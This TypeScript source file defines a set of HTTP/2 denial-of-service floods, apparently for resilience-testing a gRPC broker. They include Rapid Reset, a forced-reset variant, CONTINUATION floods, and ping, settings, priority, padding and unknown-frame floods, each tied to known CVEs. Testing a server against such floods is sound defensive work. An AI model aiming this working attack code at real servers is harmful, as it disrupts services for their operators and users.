// Frames that cost their sender nothing and that no rule of HTTP/2 forbids, by the hundred thousand.
import { type Attack, floodBy, repeated, streamOf } from "./attack.js";
import {
  callBlock,
  continuation,
  data,
  frame,
  header,
  headers,
  initialWindow,
  paddedData,
  ping,
  priority,
  reset,
  settings,
  windowUpdate,
} from "./frames.js";

const none = Buffer.alloc(0);
const publishPath = "/reprise.v1.Broker/Publish";
const connectPath = "/reprise.v1.Broker/Connect";
const each = 200;

/** Streams that are opened and given up in the same breath (CVE-2023-44487). */
export const rapidReset: Attack = (t, target, forMs) =>
  floodBy(5, t, target, forMs, (round) =>
    Array.from({ length: each }, (_, i) => {
      const stream = streamOf(round * each + i);
      return Buffer.concat([headers(stream, callBlock(publishPath)), reset(stream)]);
    }),
  );

/** The same, so that the node is the one who resets (CVE-2025-8671): a window that grows by nothing is an error. */
export const madeToReset: Attack = (t, target, forMs) =>
  floodBy(5, t, target, forMs, (round) =>
    Array.from({ length: each }, (_, i) => {
      const stream = streamOf(round * each + i);
      return Buffer.concat([headers(stream, callBlock(connectPath)), windowUpdate(stream, 0)]);
    }),
  );

/** Calls of methods that do not exist: each is answered. */
export const unknownPaths: Attack = (t, target, forMs) =>
  floodBy(5, t, target, forMs, (round) =>
    Array.from({ length: each }, (_, i) => headers(streamOf(round * each + i), callBlock("/no.such/Method"), true)),
  );

const pings = repeated(ping(), 2_000);
export const pingFlood: Attack = (t, target, forMs) => floodBy(5, t, target, forMs, () => pings);
/** Whose answers nobody reads. */
export const deafPingFlood: Attack = (t, target, forMs) => floodBy(5, t, target, forMs, () => pings, { deaf: true });

const manySettings = repeated(settings([initialWindow, 1_000], [initialWindow, 70_000]), 1_000);
export const settingsFlood: Attack = (t, target, forMs) => floodBy(5, t, target, forMs, () => manySettings);
export const deafSettingsFlood: Attack = (t, target, forMs) =>
  floodBy(5, t, target, forMs, () => manySettings, { deaf: true });

/** A window that changes for all of many streams, each time (CVE-2019-9515 with a lever). */
export const settingsOfManyStreams: Attack = (t, target, forMs) =>
  floodBy(3, t, target, forMs, (round) =>
    round < 5
      ? Array.from({ length: each }, (_, i) => headers(streamOf(round * each + i), callBlock(connectPath)))
      : manySettings,
  );

const opened = (round: number, then: Buffer) => (round === 0 ? headers(1, callBlock(connectPath)) : then);

const emptyFrames = repeated(data(1, none), 2_000);
export const emptyData: Attack = (t, target, forMs) =>
  floodBy(5, t, target, forMs, (round) => opened(round, emptyFrames));

const padding = repeated(paddedData(1, 0), 2_000);
/** Frames of padding and nothing else. */
export const paddingFlood: Attack = (t, target, forMs) =>
  floodBy(5, t, target, forMs, (round) => opened(round, padding));

const priorities = Buffer.concat(Array.from({ length: 2_000 }, (_, i) => priority(streamOf(i), streamOf(i + 1))));
/** Dependencies of streams that do not exist. */
export const priorityFlood: Attack = (t, target, forMs) => floodBy(5, t, target, forMs, () => priorities);

const updates = repeated(windowUpdate(1, 1), 2_000);
export const windowUpdates: Attack = (t, target, forMs) =>
  floodBy(5, t, target, forMs, (round) => opened(round, updates));

const unknownFrames = repeated(frame(0xbb, 0xff, 0, Buffer.alloc(20)), 2_000);
/** Of a type that nobody knows: they are to be ignored. */
export const unknownFrameFlood: Attack = (t, target, forMs) => floodBy(5, t, target, forMs, () => unknownFrames);

const begun = (round: number, then: Buffer) => (round === 0 ? headers(1, callBlock(connectPath), false, false) : then);

const smallContinuations = repeated(continuation(1, none), 2_000);
/** Headers that never end (CVE-2024-27983, CVE-2024-28182): of nothing, … */
export const emptyContinuations: Attack = (t, target, forMs) =>
  floodBy(5, t, target, forMs, (round) => begun(round, smallContinuations));

const bigContinuation = continuation(1, repeated(header("x-filler", "x".repeat(4_000)), 4));
/** … and of one after the other. */
export const continuations: Attack = (t, target, forMs) =>
  floodBy(5, t, target, forMs, (round) => begun(round, bigContinuation));
